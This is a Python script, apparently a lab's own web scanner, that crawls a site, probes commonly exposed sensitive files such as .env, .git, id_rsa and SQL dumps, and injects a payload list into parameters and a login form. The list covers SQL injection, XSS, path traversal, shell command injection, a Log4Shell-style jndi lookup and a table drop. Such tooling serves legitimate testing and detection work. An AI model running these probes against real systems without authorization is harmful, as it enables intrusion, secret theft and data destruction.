"""A web scanner of the lab's own: crawls a site, asks for what is often left lying about, and puts payloads into every parameter.

`prober.py URL SECONDS SEED --every LOW,HIGH [--fresh] [--workers N] [--crawl N]`
"""

import argparse
import http.client
import random
import re
import threading
import time
import urllib.parse

LEFT_ABOUT = ["/.git/HEAD", "/.env", "/backup.zip", "/admin", "/phpmyadmin/", "/wp-login.php", "/server-status", "/.svn/entries", "/config.php.bak",
              "/console", "/actuator/env", "/robots.txt", "/manager/html", "/cgi-bin/test.cgi", "/xmlrpc.php", "/id_rsa", "/dump.sql", "/api/swagger.json"]
PAYLOADS = ["'", "1' or '1'='1", "1 and sleep(1)", "1 union select null,null,null--", "<script>alert(1)</script>", "../../../../etc/passwd",
            "{{7*7}}", "${jndi:ldap://x/a}", "; cat /etc/passwd", "%00", "A" * 400, "1;drop table x", "php://filter/resource=index", "\"><svg onload=1>"]
AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Mozilla/5.0 (compatible; sweep/1.0)", "python-requests/2.31"]


class Prober:
    """One worker with one connection."""

    def __init__(self, options, rng, found, until):
        self.options, self.rng, self.found, self.until = options, rng, found, until
        self.where = urllib.parse.urlsplit(options.url)
        self.end = None

    def fetch(self, path, method="GET", body=None):
        """The answer's text, empty when there is none."""
        try:
            self.end = self.end or http.client.HTTPConnection(self.where.hostname, self.where.port or 80, timeout=5)
            head = {"User-Agent": AGENTS[int(self.rng.random() * 3)], "Accept": "*/*"}
            if body:
                head["Content-Type"] = "application/x-www-form-urlencoded"
            self.end.request(method, path, body=body, headers=head)
            text = self.end.getresponse().read().decode("latin-1")
        except (OSError, http.client.HTTPException):
            self.end, text = None, ""
        if self.options.fresh and self.end:
            self.end.close()
            self.end = None
        low, high = map(float, self.options.every.split(","))
        time.sleep(min(self.rng.uniform(low, high), max(self.until - time.monotonic(), 0)))
        return text

    def work(self):
        """Crawls, then knocks, then injects."""
        queue = ["/"]
        for _ in range(self.options.crawl):
            if not queue or time.monotonic() >= self.until:
                break
            links = re.findall(r'(?:href|src|action)="(/[^"]*)"', self.fetch(queue.pop(0)))
            fresh = [link for link in links if link not in self.found]
            self.found.update(fresh)
            queue += self.rng.sample(fresh, min(len(fresh), 8))
        while time.monotonic() < self.until:
            choice = self.rng.random()
            if choice < 0.4:
                self.fetch(self.rng.choice(LEFT_ABOUT), self.rng.choice(["GET", "GET", "HEAD", "OPTIONS"]))
            elif choice < 0.85:
                page = self.rng.choice(sorted(self.found) or ["/item?id=1"])
                name = re.search(r"[?&](\w+)=", page)
                self.fetch(f"{page.split('?')[0]}?{name[1] if name else 'q'}={urllib.parse.quote(self.rng.choice(PAYLOADS))}")
            else:
                self.fetch("/login", "POST", "user=" + urllib.parse.quote(self.rng.choice(PAYLOADS)) + "&password=x")


def main():
    """Probes until the time is over."""
    parser = argparse.ArgumentParser()
    parser.add_argument("url")
    parser.add_argument("seconds", type=float)
    parser.add_argument("seed")
    parser.add_argument("--every", default="0,0.1")
    parser.add_argument("--fresh", action="store_true")
    parser.add_argument("--workers", type=int, default=2)
    parser.add_argument("--crawl", type=int, default=30)
    options = parser.parse_args()
    until, found = time.monotonic() + options.seconds, set()
    workers = [threading.Thread(target=Prober(options, random.Random(f"{options.seed}/{number}"), found, until).work)
               for number in range(options.workers)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()


main()
